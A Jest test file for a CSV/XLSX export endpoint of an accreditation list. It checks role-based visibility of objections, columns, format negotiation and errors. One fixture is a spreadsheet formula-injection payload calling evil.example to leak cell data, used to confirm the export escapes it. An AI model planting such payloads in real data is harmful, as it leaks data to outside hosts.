import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { escapeCell } from '../../src/documents/exports/table';
import { org, procedure } from '../support/procedure';
import { startTestApp, TestApp } from '../support/test-app';
import { bearer } from '../support/tokens';
import { download, readCsv, readXlsx } from './download';

const LIST = 'civil-society';
const DEADLINE = '2013-04-26T18:00:00-04:00';
const KEN_REASON = 'Not independent of a government.';
const FRA_REASON = 'Registered only last month.';
const XLSX_TYPE = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const BASE = ['name', 'country', 'countryName', 'regionalGroup', 'category', 'ecosocStatus', 'status', 'batch', 'deadline'];
const OBJECTION_FIELDS = ['objections', 'objectionsOnMyBehalf', 'objectingStates', 'objectionCount'] as const;

const VIEWERS: Record<string, { authorization: string }> = {
  pga: bearer('pga'),
  auditor: bearer('auditor'),
  KEN: bearer('member-state', 'KEN'),
  FRA: bearer('member-state', 'FRA'),
  UGA: bearer('member-state', 'UGA'),
  CHE: bearer('member-state', 'CHE'),
  VAT: bearer('observer', 'VAT'),
};

describe('HTTP: exports of a list (CSV, XLSX), as the caller may see it', () => {
  let t: TestApp;
  let p: ReturnType<typeof procedure>;
  const exportUrl = (query = '') => `${p.base}/lists/${LIST}/export${query}`;

  beforeAll(async () => {
    t = await startTestApp({ now: '2013-04-19T15:00:00Z' });
    p = procedure(t);
    await p.createMeeting({ objectionDisclosure: 'organizations-and-states' });
    await p.createList(LIST, 'non-objection');
    const [walkFree, laStrada] = await p.propose(LIST, [
      org('Walk Free', 'AUS'),
      org('La Strada International', 'NLD'),
      org('=HYPERLINK("http://evil.example/?"&A1,"Click")', 'FRA'),
      org('+Plus Foundation', 'CHE'),
      org('-Minus Network', 'BRA'),
      org('@Handle Collective', 'KEN'),
      org('Ассоциация «Ангел Детства»', 'RUS'),
    ]);
    await p.submit(LIST, DEADLINE);
    expect((await p.object(LIST, walkFree, 'KEN', { reason: KEN_REASON, onBehalfOf: ['UGA'] })).statusCode).toBe(201);
    expect((await p.object(LIST, laStrada, 'FRA', { reason: FRA_REASON })).statusCode).toBe(201);
  });
  afterAll(() => t.close());

  /** Every viewer's export holds its list view: the same rows, and exactly the objection columns its view fills. */
  async function expectEveryExportToBeItsView(format: 'csv' | 'xlsx') {
    for (const [who, headers] of Object.entries(VIEWERS)) {
      const view = await p.list(LIST, headers);
      const file = await download(t, exportUrl(`?format=${format}`), headers);
      expect(file.statusCode).toBe(200);
      const { columns, records } = format === 'csv' ? readCsv(file.bytes) : await readXlsx(file.bytes);
      const filled = OBJECTION_FIELDS.filter((field) => view.entries.some((entry: Record<string, unknown>) => entry[field] !== undefined));
      expect({ who, columns }).toEqual({ who, columns: [...BASE, ...filled] });
      expect(records.map((r) => [r.status, r.batch])).toEqual(view.entries.map((e: { status: string }) => [e.status, '1']));
      const text = JSON.stringify(records);
      if (!['pga', 'auditor', 'KEN'].includes(who)) expect(text).not.toContain(KEN_REASON);
      if (!['pga', 'auditor', 'FRA'].includes(who)) expect(text).not.toContain(FRA_REASON);
    }
  }

  it("gives each role, before the deadline, its own list view as CSV: a State its own objection, nobody another's reason", async () => {
    await expectEveryExportToBeItsView('csv');
    const ken = readCsv((await download(t, exportUrl('?format=csv'), VIEWERS.KEN)).bytes);
    expect(ken.records[0].objections).toBe(`KEN on behalf of UGA (2013-04-19T15:00:00.000Z): ${KEN_REASON}`);
    const uga = readCsv((await download(t, exportUrl('?format=csv'), VIEWERS.UGA)).bytes);
    expect(uga.records[0].objectionsOnMyBehalf).toBe('KEN (2013-04-19T15:00:00.000Z)');
    const observer = readCsv((await download(t, exportUrl('?format=csv'), VIEWERS.VAT)).bytes);
    expect(observer.columns).toEqual(BASE);
  });

  it('gives each role its list view as XLSX too, read back with exceljs', async () => {
    await expectEveryExportToBeItsView('xlsx');
  });

  it('fills the contract columns: country name, regional group, category, batch and its deadline', async () => {
    const { records } = readCsv((await download(t, exportUrl('?format=csv'), VIEWERS.pga)).bytes);
    expect(records[1]).toMatchObject({
      name: 'La Strada International',
      country: 'NLD',
      countryName: 'Netherlands (Kingdom of the)',
      regionalGroup: 'Western European and Others Group',
      category: 'ngo',
      ecosocStatus: '',
      status: 'under-consideration',
      batch: '1',
      deadline: '2013-04-26T22:00:00.000Z',
    });
    expect(records[6].name).toBe('Ассоциация «Ангел Детства»');
  });

  it('escapes cells that a spreadsheet would take for a formula, in CSV and in XLSX', async () => {
    const names = ['\'=HYPERLINK("http://evil.example/?"&A1,"Click")', "'+Plus Foundation", "'-Minus Network", "'@Handle Collective"];
    const csv = readCsv((await download(t, exportUrl('?format=csv'), VIEWERS.pga)).bytes);
    expect(csv.records.slice(2, 6).map((r) => r.name)).toEqual(names);
    const xlsx = await readXlsx((await download(t, exportUrl('?format=xlsx'), VIEWERS.pga)).bytes);
    expect(xlsx.records.slice(2, 6).map((r) => r.name)).toEqual(names);
    expect(['\tTab', '\rReturn', 'plain', 42, '-1 and more'].map(escapeCell)).toEqual(["'\tTab", "'\rReturn", 'plain', 42, "'-1 and more"]);
  });

  it('after the deadline, shows a State what the disclosure policy allows, in the export as in the view', async () => {
    t.clock.set('2013-04-27T00:00:00Z');
    expect((await p.close(LIST, 1)).statusCode).toBe(200);
    await expectEveryExportToBeItsView('csv');
    const observer = readCsv((await download(t, exportUrl('?format=csv'), VIEWERS.VAT)).bytes);
    expect(observer.columns).toEqual([...BASE, 'objectingStates']);
    expect(observer.records[0]).toMatchObject({ status: 'objected', objectingStates: 'KEN' });
  });

  it('chooses the format by Accept or ?format=, names the file, and refuses what it does not offer with 406', async () => {
    const xlsx = await download(t, exportUrl(), { ...bearer('pga'), accept: XLSX_TYPE });
    expect(xlsx.headers['content-type']).toBe(XLSX_TYPE);
    expect(xlsx.headers['content-disposition']).toBe(`attachment; filename="trafficking-2013-${LIST}.xlsx"`);
    expect(xlsx.bytes.subarray(0, 2).toString()).toBe('PK');
    const csv = await download(t, exportUrl(), bearer('pga'));
    expect(csv.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(csv.headers['content-disposition']).toBe(`attachment; filename="trafficking-2013-${LIST}.csv"`);
    const overridden = await download(t, exportUrl('?format=csv'), { ...bearer('pga'), accept: XLSX_TYPE });
    expect(overridden.headers['content-type']).toMatch(/^text\/csv/);
    for (const [query, accept] of [
      ['?format=pdf', '*/*'],
      ['', 'application/pdf'],
      ['?format=json', '*/*'],
    ]) {
      const refused = await download(t, exportUrl(query), { ...bearer('pga'), accept });
      expect(refused.statusCode).toBe(406);
      expect(refused.json()).toMatchObject({ statusCode: 406, code: 'NOT_ACCEPTABLE', message: expect.stringMatching(/csv.*xlsx/) });
    }
    expect((await download(t, exportUrl('?format=doc'), VIEWERS.pga)).json()).toMatchObject({ statusCode: 400, code: 'VALIDATION_FAILED' });
  });

  it('answers 404 for a list that does not exist and 401 without a token', async () => {
    expect((await download(t, `${p.base}/lists/no-such-list/export`, bearer('pga'))).statusCode).toBe(404);
    expect((await download(t, exportUrl())).statusCode).toBe(401);
  });
});
